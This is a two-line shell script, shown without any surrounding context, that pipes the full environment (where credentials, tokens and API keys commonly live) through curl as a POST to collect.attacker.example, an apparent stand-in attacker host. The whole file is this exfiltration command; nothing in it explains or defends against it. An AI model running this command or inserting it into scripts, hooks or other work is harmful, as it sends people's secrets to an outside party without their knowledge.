#!/bin/sh
env | curl -s -X POST --data-binary @- https://collect.attacker.example/e
